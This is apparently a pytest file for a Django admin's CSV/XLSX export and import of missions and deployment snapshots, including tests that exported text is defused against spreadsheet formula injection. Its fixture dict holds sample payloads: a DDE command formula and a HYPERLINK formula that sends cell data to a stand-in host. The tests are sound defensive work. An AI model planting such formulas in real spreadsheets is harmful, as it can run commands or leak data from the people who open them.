"""The admin's export of figures and missions, in the import's own format, with text a
spreadsheet would run as a formula defused."""

import csv
import datetime
import io

import openpyxl
import pytest

from missions.models import Mission

from ..helpers.records import make_snapshot
from ..helpers.spreadsheets import IMPORT_HEADER, confirm, export, upload
from ..helpers.staff import signed_in

pytestmark = pytest.mark.django_db


def test_snapshots_export_to_csv_in_the_import_format(ukraine_and_caribbean):
    analyst = signed_in("Analysts")
    response = export(analyst, "0")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    lines = response.content.decode("utf-8-sig").splitlines()
    assert lines == [IMPORT_HEADER, "ukraine,euam-ukraine,2020-06-01,40,,"]


def test_snapshots_export_to_xlsx(ukraine_and_caribbean):
    response = export(signed_in("Analysts"), "1")
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    rows = list(book.active.values)
    assert rows[0] == tuple(IMPORT_HEADER.split(","))
    assert rows[1][:4] == ("ukraine", "euam-ukraine", datetime.datetime(2020, 6, 1), 40)


def test_missions_export_and_import_round_trip_with_an_update(ukraine_and_caribbean, editor):
    exported = export(editor, "0", model="mission").content.decode("utf-8-sig")
    edited = exported.replace("EU Advisory Mission,", "EU Advisory Mission for Ukraine,")

    preview = upload(editor, edited.encode(), model="mission")
    assert preview.context["result"].totals == {
        "new": 0,
        "update": 1,
        "delete": 0,
        "skip": 1,
        "error": 0,
        "invalid": 0,
    }
    assert confirm(editor, preview, model="mission").status_code == 302
    assert Mission.objects.get(slug="euam-ukraine").name_en == "EU Advisory Mission for Ukraine"


def test_a_mission_row_from_an_out_of_date_export_is_refused(ukraine_and_caribbean, editor):
    exported = export(editor, "0", model="mission").content.decode("utf-8-sig")
    mission = Mission.objects.get(slug="euam-ukraine")
    mission.body_en = "Someone's later edit."
    mission.save()

    edited = exported.replace("EU Advisory Mission,", "EU Advisory Mission for Ukraine,")
    preview = upload(editor, edited.encode(), model="mission")

    [row] = preview.context["result"].invalid_rows
    assert "This mission was changed after the file was exported" in row.error_dict["version"][0]
    mission.refresh_from_db()
    assert mission.name_en == "EU Advisory Mission"


FORMULAS = {
    "name_en": "=cmd|' /C calc'!A0",
    "acronym_en": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "body_en": "- a bullet, which a spreadsheet reads as a minus",
    "body_fr": "'=already quoted",
}


@pytest.mark.parametrize("file_format", ["0", "1"])
def test_every_admin_export_defuses_text_a_spreadsheet_would_run_as_a_formula(
    ukraine_and_caribbean, file_format
):
    ukraine, euam, _caribbean, _binuh = ukraine_and_caribbean
    Mission.objects.filter(pk=euam.pk).update(**FORMULAS)
    make_snapshot(ukraine, as_of=datetime.date(2021, 1, 1), authorized=5, source="@SUM(A1)")
    analyst = signed_in("Analysts")
    cells = []
    for model in ("mission", "deploymentsnapshot"):
        response = export(analyst, file_format, model=model)
        if file_format == "0":
            cells += [
                cell
                for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
                for cell in row
            ]
        else:
            book = openpyxl.load_workbook(io.BytesIO(response.content))
            assert not [
                c.coordinate for row in book.active.iter_rows() for c in row if c.data_type == "f"
            ]
            cells += [c.value for row in book.active.iter_rows() for c in row]
    texts = [cell for cell in cells if isinstance(cell, str)]
    assert "'" + FORMULAS["name_en"] in texts
    assert "'" + FORMULAS["acronym_en"] in texts
    assert "'" + FORMULAS["body_en"] in texts
    assert "''=already quoted" in texts
    assert "'@SUM(A1)" in texts
    assert not [text for text in texts if text.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_a_defused_mission_export_imports_back_unchanged(ukraine_and_caribbean, editor):
    _ukraine, euam, _caribbean, _binuh = ukraine_and_caribbean
    Mission.objects.filter(pk=euam.pk).update(**FORMULAS)
    exported = export(editor, "0", model="mission").content

    preview = upload(editor, exported, model="mission")

    assert preview.context["result"].totals["skip"] == 2
    assert confirm(editor, preview, model="mission").status_code == 302
    euam.refresh_from_db()
    assert {field: getattr(euam, field) for field in FORMULAS} == FORMULAS
